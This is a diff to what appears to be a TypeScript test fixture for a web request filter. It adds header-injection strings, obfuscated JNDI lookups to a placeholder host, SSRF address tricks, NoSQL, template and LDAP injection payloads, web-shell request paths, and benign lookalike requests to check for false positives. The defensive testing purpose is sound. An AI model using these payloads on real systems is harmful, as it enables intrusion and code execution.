@@ -32,6 +32,24 @@ const attacks: readonly string[] = [
   // Lines of a header, by characters that older servers cut down to CR and LF
   'x\u560d\u560aSet-Cookie:a=b',
   '\r\n bcc: anna@example.org',
+  // Names of headers behind a line's end, encoded once more than usual
+  'a\r\nHost: x.example',
+  'a\r\nTransfer-Encoding: chunked',
+  '%250d%250aSet-Cookie: a=b',
+  '%u000d%u000aSet-Cookie: a=b',
+  '\r\nto: anna@example.org',
+  // Look-ups taken apart, inner addresses written otherwise, operators
+  '${jnd${upper:\u0131}:ldap://x.example/a}',
+  '${${date:j}ndi:rmi://x.example}',
+  'http://0251.0376.0251.0376/',
+  'http://[0:0:0:0:0:ffff:127.0.0.1]',
+  'https://kubernetes.default.svc/api',
+  '{"$in":["admin","root"]}',
+  '1||1==1//',
+  'this.password.match(/a/)',
+  '{$smarty.version}',
+  'upper*))\u0000',
+  '/wEykAYAAQAAAP////8BAAAAAAAAAAwCAAAAXk1p',
   // A filter's end
   "*()|&'",
   // Files by their names alone
@@ -42,6 +60,9 @@ const attacks: readonly string[] = [
 ];
 const requests: readonly string[] = [
   'POST /u/picture.php;.jpg',
+  'GET /xleet.php',
+  'GET /get?name=shell.php',
+  'GET /plugins/form/file-upload/server/content/upload.php',
   'POST /uploads/2026/11/x.php%00.jpg',
   'GET /x.jsp?cmd=id',
   'GET /storage/x.php7?0=system',
@@ -66,6 +87,10 @@ const ordinaryRequests: readonly string[] = [
   'GET /_next/image?url=https%3A%2F%2Fcdn.example.com%2Fa.jpg&w=300',
   'GET /thumb?src=https://cdn.example.com/a.png&w=80',
   'GET /index.php?c=system&a=list',
+  'GET /search?q=%E7%B5%90%E5%90%88+union',
+  'GET /search?q=%E9%81%B8%E6%8A%9E(select)',
+  'GET /seashells.php',
+  'POST /note?text=dear+anna%0D%0Afrom+the+host:+welcome%0D%0Ato:+all',
   'GET /search.php?q=dir',
   'GET /files/report.jsp;jsessionid=0F1E?page=2',
 ];
